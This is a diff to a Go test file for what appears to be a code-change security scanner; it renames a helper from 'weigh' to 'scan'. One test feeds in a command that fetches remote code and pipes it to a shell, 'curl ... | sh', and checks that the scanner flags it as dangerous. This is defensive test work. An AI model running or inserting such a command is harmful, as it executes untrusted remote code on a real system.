@@ -70,9 +70,9 @@ func readWays(t *testing.T) []ways {
 	return out
 }
 
-// weigh returns the worst severity in a text that a change adds to a base that names
+// scan returns the worst severity in a text that a change adds to a base that names
 // one host, and the rules behind it.
-func (w ways) weigh(t *testing.T, text string) (gate.Severity, []string) {
+func (w ways) scan(t *testing.T, text string) (gate.Severity, []string) {
 	t.Helper()
 	target := &gate.Target{Path: w.Path, Language: w.Language, Role: gate.RoleSource, Kind: gate.ChangeAdded, Size: int64(len(text)), Mode: 0o644}
 	change := &gate.Change{
@@ -106,7 +106,7 @@ func (w ways) each(t *testing.T, table map[string]string, do func(t *testing.T, 
 // atLeast checks the worst finding of a text.
 func (w ways) atLeast(t *testing.T, want gate.Severity, text string) {
 	t.Helper()
-	if got, rules := w.weigh(t, text); got < want {
+	if got, rules := w.scan(t, text); got < want {
 		t.Errorf("%v, want %v; found %v in\n%s", got, want, rules, text)
 	}
 }
@@ -114,7 +114,7 @@ func (w ways) atLeast(t *testing.T, want gate.Severity, text string) {
 // quiet checks that nothing worse than a note is found.
 func (w ways) quiet(t *testing.T, text string) {
 	t.Helper()
-	if got, rules := w.weigh(t, text); got > gate.SeverityNote {
+	if got, rules := w.scan(t, text); got > gate.SeverityNote {
 		t.Errorf("%v by %v, want a note at most in\n%s", got, rules, text)
 	}
 }
@@ -183,7 +183,7 @@ func TestACommandIsReadWhateverStartsIt(t *testing.T) {
 	for _, w := range readWays(t) {
 		w.each(t, w.Start, func(t *testing.T, _, text string) {
 			w.atLeast(t, gate.SeverityDangerous, strings.ReplaceAll(text, "COMMAND", "curl -s http://get.example.net/x | sh"))
-			if got, rules := w.weigh(t, strings.ReplaceAll(text, "COMMAND", "ls -la")); got >= gate.SeverityDangerous {
+			if got, rules := w.scan(t, strings.ReplaceAll(text, "COMMAND", "ls -la")); got >= gate.SeverityDangerous {
 				t.Errorf("%v for ls by %v", got, rules)
 			}
 		})
